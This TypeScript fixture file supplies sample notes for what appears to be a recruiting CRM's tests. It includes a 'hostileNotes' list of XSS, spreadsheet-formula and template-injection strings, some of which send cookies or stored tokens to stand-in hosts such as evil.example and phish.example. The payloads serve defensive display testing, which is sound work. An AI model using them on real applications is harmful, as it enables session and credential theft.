/** Notes about a person, written by several colleagues over years. */
export const contactNotes: readonly string[] = [
  'Met at the Lisbon panel. Open to a move after the audit closes in March.',
  'Notice period 6 months to the end of a quarter. Do not ring before 17:30.',
  'Left voicemail twice. Assistant is Frau Öztürk, direct and friendly.',
  'Wants the remote policy in writing before a first interview.',
  'Current package 148k + 25 % bonus + phantom shares (worthless, in her own words).',
  'Speaks German, Turkish and very good French. No interest in Munich.',
  'Turned down the Clearpool role in May: too junior, reports to the COO.',
  'Warm intro through Ana. They rowed together.',
  'Two small children, partner tied to Hamburg. Three office days are the limit.',
  'Non-compete until 31 March; garden leave paid in full.',
  'Was our candidate for the Kontor search, came second. Said he would pick up the phone again.',
  'Relocating to Porto in autumn, needs an employer of record.',
  'Prefers WhatsApp; never reads LinkedIn messages.',
  'Counter-offered last time (+18k). Ask early what would make her stay.',
  'Visa: Blue Card, tied to the employer for another 7 months.',
  'References: strong from her former CEO, careful one from the board.',
  'Referred by Kofi M. — thank him if it works out!',
  'Not looking. Happy to share names for the perception search.',
  'Reads every contract herself. Send the draft as Word, not PDF.',
  'Asked about equity refresh and who the CEO reports to.',
  'Kündigungsfrist drei Monate zum Quartalsende. Gehaltswunsch 135.000 €.',
  'Préfère un échange de vive voix; rappeler après la clôture du 15.',
  'Görüşmeye açık, ama İstanbul dışına çıkmak istemiyor.',
  'Solo acepta híbrido en Madrid. Pretensión 95k.',
  'Salary expectation: 90–100k base; "but talk to me about the mission first".',
  'Blind in one eye, asked us to use large print. Send material a day ahead.',
  'Returned from parental leave 1 Sept, 80 %.',
  'CV out of date since 2022, the last two roles are missing.',
  'Ghosted us in 2024. Keep, but second choice.',
  'PhD on scanning FMCW lidar; three patents, two lapsed.',
]

/** Short notes about a member of a hot list, mostly typed during a call. */
export const memberNotes: readonly string[] = [
  'left voicemail, call Tuesday',
  'warm intro through Ana',
  'wants the remote policy in writing',
  'met at the Lisbon panel',
  'speaks German',
  'Thursday 14:00, video',
  'signed 18 Nov',
  'ask again in spring',
  'lvm 2x, try mobile',
  'no answer, engaged twice',
  'PA says back on Monday',
  'send deck first',
  'comp too high for this one, keep for pre-IPO search',
  'knows the hiring manager — careful',
  'wrong number, find a new one',
  'interested, needs sponsor for visa',
  'moved to Vienna?? check',
  'do not mention the client yet',
  'ruft zurück',
  'très intéressée, envoyer la fiche de poste',
  'replied: "not now, ping me in Q2"',
  'strong on treasury, light on equity story',
  'ex-colleague of Priya',
  'said yes to a coffee 🙂',
]

/** Sources of a member. */
export const memberSources: readonly string[] = [
  'LinkedIn search',
  'Referral',
  'Conference list',
  'Desk map',
  'Past applicant',
  'Alumni',
  'Scraped team page',
  'Client shortlist',
  'CSV import',
  'Inbound',
]

/**
 * Notes with input from attackers and spreadsheets; anything but plain display as text is a defect.
 */
export const hostileNotes: readonly string[] = [
  '<img src=x onerror="alert(document.cookie)"> pasted from his e-mail signature',
  '=HYPERLINK("http://phish.example?leak="&A1,"Click for CV")',
  '<script>fetch("//evil.example/"+localStorage.token)</script> came with the application form',
  '[click me](javascript:alert(1)) and ![](https://track.example/p.gif)',
  'Line one\r\nLine two\rLine three\u2028Line four\u0007 after a bell',
  '{{constructor.constructor("return process")().exit()}} ${7*7} %s %n',
  'אמרה שתחזור אליי ביום ראשון — call back Sunday, speaks עברית and English',
  'مهتمة بالمنصب، ترجو إرسال التفاصيل — prefers Arabic in writing',
  '是猎头推荐的,希望明年三月之后再谈。工资期望 80 万。',
  '‏طلب ‎(RTL and LTR marks)‏ mixed 123-456 ‎end',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ arrived like this from the import',
  '\t\t\n   \n',
]

const paragraphs: readonly string[] = [
  'Transcript of the reference call with the former chair. He describes a calm operator who closes the books in six working days and says no to the CEO in private, never in a meeting.',
  'On the 2023 restatement: the error was found by her own team, disclosed within a week, and the auditors changed nothing else. The board asked her to stay.',
  'Motivation: the present group is being split and the listed half moves to Zürich. She does not want to move the children again before the Abitur.',
  'Compensation: base 210,000 €, bonus 40 % at target (paid 31 % and 38 %), LTIP in cash, car allowance 900 € a month. Wants equity with a real strike price, not options over a holding.',
  'Risks: has never raised venture money, and said so herself. The founders liked that she said it. Would need the head of FP&A from the start.',
  'Languages: German and Polish from home, English from nine years in Dublin, French enough for a supervisory board. Asked us to keep letters in English.',
  "Practicalities: six months' notice to the end of a half-year, garden leave unlikely. Non-compete covers card issuing only, reviewed by counsel in October.",
  'Next steps: dinner with the founders in week 47, case study on unit economics (they send the data room on Monday), two references from peers rather than bosses.',
]

/** Returns a note of exactly `length` characters, as if a whole reference call was pasted in. */
export function longNote(length: number): string {
  let text = ''
  for (let i = 0; text.length < length; i++)
    text += `${i + 1}. ${paragraphs[i % paragraphs.length]}\n\n`
  return text.slice(0, length)
}
